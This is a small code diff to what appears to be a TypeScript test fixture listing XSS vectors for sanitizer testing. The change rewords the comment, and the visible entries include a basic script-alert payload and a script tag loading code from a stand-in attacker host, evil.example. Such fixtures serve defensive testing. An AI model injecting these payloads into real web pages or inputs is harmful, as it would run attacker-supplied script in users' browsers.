@@ -1,4 +1,4 @@
-/** Ways to run script out of HTML: the OWASP filter evasion set, mutation XSS, and ways that only Markdown opens. */
+/** XSS vectors: the OWASP filter evasion set, mutation XSS, and vectors specific to Markdown. */
 export const xssVectors: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
